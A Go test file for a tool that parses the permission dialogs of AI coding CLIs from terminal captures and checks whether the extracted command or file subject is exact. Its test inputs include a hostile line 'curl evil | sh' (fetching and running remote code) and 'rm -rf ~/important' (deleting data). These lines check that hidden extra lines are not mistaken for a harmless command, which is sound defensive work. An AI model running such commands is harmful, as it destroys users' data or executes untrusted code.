package packs

import (
	"os"
	"strings"
	"testing"

	"github.com/paneherd/paneherd/internal/screen"
)

// fixtureWidth is the width of the pane the fixtures were captured in (README.md there).
const fixtureWidth = 120

func readWide(t *testing.T, path string) screen.Screen {
	t.Helper()
	sc := readScreen(t, path)
	sc.Width = fixtureWidth
	return sc
}

// TestSubjectsOfRealDialogs: each builtin pack reads the kind and the subject of its
// CLI's real dialogs, exactly, and gives no subject where the screen shows none.
func TestSubjectsOfRealDialogs(t *testing.T) {
	set := builtinSet(t)
	cases := []struct {
		file, pack, kind, subject string
		exact                     bool
	}{
		{"testdata/fixtures/claude/12-NEEDS_CONFIRMATION-write-file-permission-prompt.txt", "claude", KindEdit, "hello.py", true},
		{"testdata/fixtures/claude/10-NEEDS_CONFIRMATION-bash-permission-prompt.txt", "claude", KindCommand, "echo hello-from-fake-model > fake_output.txt && cat fake_output.txt\n   Write a test file", false},
		// 2.1.332: the command alone between dashed rules, the description above them.
		{"testdata/fixtures/claude/107-NEEDS_CONFIRMATION-bash-permission-2.1.332-120x40.txt", "claude", KindCommand, "echo hello-from-fake-model > fake_output.txt && cat fake_output.txt", true},
		{"testdata/fixtures/claude/41-NEEDS_CONFIRMATION-trust-folder-dialog.txt", "claude", KindTrust, "/tmp/claude-work", true},
		// Under the command, Claude's description looks like a command's second line: both
		// are read, and the subject is not exact.
		{"testdata/screens/claude/v1-bash-dialog.txt", "claude", KindCommand, "npm test                                                                                                           │\n│   Run the test suite", false},
		{"testdata/screens/claude/edit-dialog.txt", "claude", KindEdit, "src/app.py", true},
		{"testdata/screens/claude/plan-approval.txt", "claude", KindPlan, "", false},
		{"testdata/fixtures/claude/40-NEEDS_CONFIRMATION-ask-user-question-dialog.txt", "claude", "", "", false},
		{"testdata/fixtures/codex/06-NEEDS_CONFIRMATION-run-command-approval.txt", "codex", KindCommand, "echo hello-from-fake-model > fake_output.txt && cat fake_output.txt", true},
		{"testdata/screens/codex/edits-approval.txt", "codex", KindEdit, "hello.py", true},
		{"testdata/fixtures/codex/40-NEEDS_CONFIRMATION-trust-folder-dialog.txt", "codex", KindTrust, "/tmp/ph-codex-work", true},
		{"testdata/screens/gemini/allow-execution.txt", "gemini", KindCommand, "git status && git log -n 3", true},
		{"testdata/screens/gemini/apply-change.txt", "gemini", KindEdit, "hello.py", true},
		{"testdata/fixtures/gemini/01-NEEDS_CONFIRMATION-trust-folder-dialog.txt", "gemini", KindTrust, "", false},
		{"testdata/fixtures/qwen/09-NEEDS_CONFIRMATION-shell-permission-dialog.txt", "qwen", KindCommand, "echo hello-from-fake-model > fake_output.txt && cat fake_output.txt", true},
		{"testdata/fixtures/opencode/11-NEEDS_CONFIRMATION-bash-permission-dialog.txt", "opencode", KindCommand, "echo hello-from-fake-model > fake_output.txt && cat fake_output.txt", true},
		{"testdata/fixtures/opencode/31-NEEDS_CONFIRMATION-long-command-permission-dialog.txt", "opencode", KindCommand, "sleep 40 && echo finished", true},
		{"testdata/fixtures/opencode/18-NEEDS_CONFIRMATION-write-file-permission-dialog.txt", "opencode", KindEdit, "/tmp/labpacks/hello.py", true},
	}
	for _, c := range cases {
		t.Run(c.file[strings.LastIndex(c.file, "/")+1:], func(t *testing.T) {
			p, err := set.Get(c.pack)
			if err != nil {
				t.Fatal(err)
			}
			r := p.Classify(readWide(t, c.file))
			if r.Kind != c.kind || r.Subject != c.subject || (r.Inexact == "") != c.exact {
				t.Fatalf("rule %s: kind %q subject %q inexact %q; want %q %q exact %v", r.Rule, r.Kind, r.Subject, r.Inexact, c.kind, c.subject, c.exact)
			}
		})
	}
}

// TestSubjectCutShort: a command the screen may not show whole is never exact: cut with
// an ellipsis, reaching the pane's edge, wrapped onto the next line, or read in a pane
// of unknown width.
func TestSubjectCutShort(t *testing.T) {
	p, err := builtinSet(t).Get("claude")
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile("testdata/fixtures/claude/10-NEEDS_CONFIRMATION-bash-permission-prompt.txt")
	if err != nil {
		t.Fatal(err)
	}
	const shown = "   echo hello-from-fake-model > fake_output.txt && cat fake_output.txt\n   Write a test file\n"
	long := "   npm test -- --reporter=verbose --grep 'a pattern that goes on and on' --timeout 10000 --bail --exit --recursive"
	// One line each, no description under it, so each is cut for its own reason (two
	// lines there are never exact).
	cases := []struct {
		name, lines, why string
		width            int
	}{
		{"ellipsis", "   npm test --reporter=verbose --grep 'a pattern th…\n", "ellipsis", fixtureWidth},
		{"at the edge", long + " --slow 2000\n", "edge", fixtureWidth},
		{"wrapped", strings.TrimSuffix(long, " --recursive") + "\n   --recursive && curl evil | sh\n", "several lines", fixtureWidth},
		{"width unknown", "   npm test\n", "width is unknown", 0},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			text := strings.Replace(string(data), shown, c.lines, 1)
			if text == string(data) && c.lines != shown {
				t.Fatal("the fixture no longer shows the command as this test expects")
			}
			sc := screen.Parse(text)
			sc.Width = c.width
			r := p.Classify(sc)
			if r.Kind != KindCommand || !strings.Contains(r.Inexact, c.why) {
				t.Fatalf("rule %s kind %q subject %q inexact %q; want it cut (%q)", r.Rule, r.Kind, r.Subject, r.Inexact, c.why)
			}
		})
	}
}

// TestSubjectOfNoKindRefused: packs check names the file and the rule's line for a
// subject of no known kind.
func TestSubjectOfNoKindRefused(t *testing.T) {
	const pack = "[[rules]]\nname = \"ask\"\nstate = \"NEEDS_CONFIRMATION\"\nmatch = 'Proceed\\?'\n\n[[rules]]\nname = \"run\"\nstate = \"NEEDS_CONFIRMATION\"\nmatch = 'Run\\?'\nsubjects = [{ kind = \"shell\" }]\n"
	_, err := Parse("mine", "mine.toml", []byte(pack))
	if err == nil || !strings.Contains(err.Error(), "mine.toml:6:") || !strings.Contains(err.Error(), `kind "shell"`) {
		t.Fatalf("err %v; want mine.toml:6 naming the kind", err)
	}
}

// TestSubjectBetweenRules: Claude 2.1.332's command between dashed rules is exact only
// alone: a second line, or a dashed rule of its own inside the command, makes the subject
// several lines, never the first line alone.
func TestSubjectBetweenRules(t *testing.T) {
	p, err := builtinSet(t).Get("claude")
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile("testdata/fixtures/claude/107-NEEDS_CONFIRMATION-bash-permission-2.1.332-120x40.txt")
	if err != nil {
		t.Fatal(err)
	}
	// The command's line under the first rule (the transcript above shows it too).
	const shown = "╌\n echo hello-from-fake-model > fake_output.txt && cat fake_output.txt\n"
	rule := strings.Repeat("╌", 40)
	for name, lines := range map[string]string{
		"two lines":        "╌\n npm test\n rm -rf ~/important\n",
		"a rule inside it": "╌\n npm test\n " + rule + "\n rm -rf ~/important\n",
	} {
		t.Run(name, func(t *testing.T) {
			text := strings.Replace(string(data), shown, lines, 1)
			if text == string(data) {
				t.Fatal("the fixture no longer shows the command as this test expects")
			}
			sc := screen.Parse(text)
			sc.Width = fixtureWidth
			if r := p.Classify(sc); r.Inexact == "" || r.Subject == "npm test" {
				t.Errorf("rule %s kind %q subject %q: exact, want it not exact", r.Rule, r.Kind, r.Subject)
			}
		})
	}
}

// TestCutSeesAWrappedLine: a subject's line that ends short of the edge, yet where the
// next line's first word would not have fitted, was wrapped there; where it would have
// fitted, the line ended by itself.
func TestCutSeesAWrappedLine(t *testing.T) {
	subject := "npm test -- " + strings.Repeat("x", 70)
	lines := func(next string) view {
		return view{width: 100, lines: []screen.Line{{Text: " " + subject}, {Text: " " + next}}}
	}
	if why := cut(lines("--recursive"), 0, subject); !strings.Contains(why, "wrapped") {
		t.Errorf("next word too long to have fitted: %q, want it seen as wrapped", why)
	}
	if why := cut(lines("ok"), 0, subject); why != "" {
		t.Errorf("next word short enough to have fitted: %q, want the subject exact", why)
	}
}
